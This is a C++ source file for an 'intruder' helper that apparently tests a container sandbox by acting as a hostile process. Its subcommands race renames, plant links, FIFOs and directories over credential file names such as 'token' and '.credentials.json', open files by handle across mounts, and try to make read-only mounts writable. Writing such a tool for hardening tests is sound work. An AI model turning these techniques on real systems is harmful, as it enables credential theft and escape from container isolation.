// SPDX-License-Identifier: Apache-2.0
// What a hostile program does in a container, or beside one that starts. Static: it runs in an empty root.
//
//   intruder swap A B COUNT       exchanges two names COUNT times
//   intruder plant DIR FILE       until it is killed: links to FILE, hard and symbolic, a FIFO and a
//   directory under
//                                 the names that are delivered to DIR, and hard links under the temporary
//                                 ones
//   intruder handle PATH          prints the file's handle
//   intruder open MOUNT HANDLE    opens that handle on MOUNT's file system and prints the content
//   intruder socket PATH          makes a socket there
//   intruder unlock DIR           tries to make the mount at DIR writable, and prints what came of it
#include <fcntl.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include <cerrno>
#include <charconv>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <string_view>

namespace {

constexpr unsigned largest_handle = 128;  // MAX_HANDLE_SZ, name_to_handle_at(2)

// A file_handle with the room that its flexible array wants.
class Handle {
 public:
  file_handle& operator*() { return *reinterpret_cast<file_handle*>(space_); }
  file_handle* operator->() { return &**this; }
  unsigned char& byte(unsigned i) { return space_[sizeof(file_handle) + i]; }

 private:
  alignas(file_handle) unsigned char space_[sizeof(file_handle) + largest_handle] = {};
};

int failed(const char* call) {
  std::printf("%s: %s\n", call, std::strerror(errno));
  return 1;
}

int swap(const char* a, const char* b, const char* count) {
  for (int left = std::atoi(count); left > 0; --left) {
    if (::renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) != 0) return failed("renameat2");
  }
  return 0;
}

// Each makes `made`, which then takes the place of `name`, whatever is there.
void put(int directory, const char* made, const char* name) {
  if (::renameat(directory, made, directory, name) == 0) return;
  ::unlinkat(directory, name, AT_REMOVEDIR);
  ::unlinkat(directory, made, 0);
  ::unlinkat(directory, made, AT_REMOVEDIR);
}

[[noreturn]] void plant(const char* path, const char* file) {
  const int directory = ::open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  constexpr const char* made = ".made";
  for (unsigned turn = 0;; ++turn) {
    for (const char* name : {"token", ".credentials.json"}) {
      if (::linkat(AT_FDCWD, file, directory, made, 0) == 0) put(directory, made, name);
      if (::symlinkat(file, directory, made) == 0) put(directory, made, name);
      if (::mkfifoat(directory, made, 0600) == 0) put(directory, made, name);
      if (::mkdirat(directory, made, 0700) == 0) put(directory, made, name);
      ::unlinkat(directory, name, 0);
      ::unlinkat(directory, name, AT_REMOVEDIR);
      // A writer's process id is not far from ours.
      const std::string temporary = "." + std::string(name) + "." +
                                    std::to_string(static_cast<unsigned>(::getpid()) + turn % 64) +
                                    ".oci-oauth";
      if (::linkat(AT_FDCWD, file, directory, made, 0) == 0) put(directory, made, temporary.c_str());
    }
  }
}

int print_handle(const char* path) {
  Handle handle;
  handle->handle_bytes = largest_handle;
  int mount = 0;
  if (::name_to_handle_at(AT_FDCWD, path, &*handle, &mount, 0) != 0) return failed("name_to_handle_at");
  std::printf("%d:", handle->handle_type);
  for (unsigned i = 0; i < handle->handle_bytes; ++i) std::printf("%02x", handle.byte(i));
  std::printf("\n");
  return 0;
}

int open_handle(const char* mount, std::string_view text) {
  Handle handle;
  const size_t colon = text.find(':');
  std::from_chars(text.data(), text.data() + colon, handle->handle_type);
  text.remove_prefix(colon + 1);
  for (; text.size() >= 2 && handle->handle_bytes < largest_handle; text.remove_prefix(2)) {
    std::from_chars(text.data(), text.data() + 2, handle.byte(handle->handle_bytes++), 16);
  }
  const int at = ::open(mount, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  const int file = ::open_by_handle_at(at, &*handle, O_RDONLY | O_CLOEXEC);
  if (file < 0) return failed("open_by_handle_at");
  char buffer[4096];
  const ssize_t count = ::read(file, buffer, sizeof buffer);
  std::printf("opened: %.*s\n", static_cast<int>(count > 0 ? count : 0), buffer);
  return 0;
}

int make_socket(const char* path) {
  sockaddr_un address = {};
  address.sun_family = AF_UNIX;
  std::strncpy(address.sun_path, path, sizeof address.sun_path - 1);
  const int fd = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  const auto* const name = reinterpret_cast<const sockaddr*>(&address);
  return ::bind(fd, name, sizeof address) == 0 ? 0 : failed("bind");
}

int unlock(const char* path) {
  if (::mount("", path, "", MS_REMOUNT | MS_BIND, "") == 0) return std::printf("remounted\n"), 0;
  mount_attr writable = {};
  writable.attr_clr = MOUNT_ATTR_RDONLY;
  if (::mount_setattr(AT_FDCWD, path, 0, &writable, sizeof writable) == 0) return std::printf("changed\n"), 0;
  const int copy = ::open_tree(AT_FDCWD, path, OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
  if (copy < 0) return failed("open_tree");
  if (::mount_setattr(copy, "", AT_EMPTY_PATH, &writable, sizeof writable) == 0)
    return std::printf("copied\n"), 0;
  return failed("mount_setattr");
}

}  // namespace

int main(int argc, char** argv) {
  const std::string_view verb = argc > 2 ? argv[1] : "";
  if (verb == "swap" && argc == 5) return swap(argv[2], argv[3], argv[4]);
  if (verb == "plant" && argc == 4) plant(argv[2], argv[3]);
  if (verb == "handle") return print_handle(argv[2]);
  if (verb == "open" && argc == 4) return open_handle(argv[2], argv[3]);
  if (verb == "unlock") return unlock(argv[2]);
  if (verb == "socket") return make_socket(argv[2]);
  return 2;
}
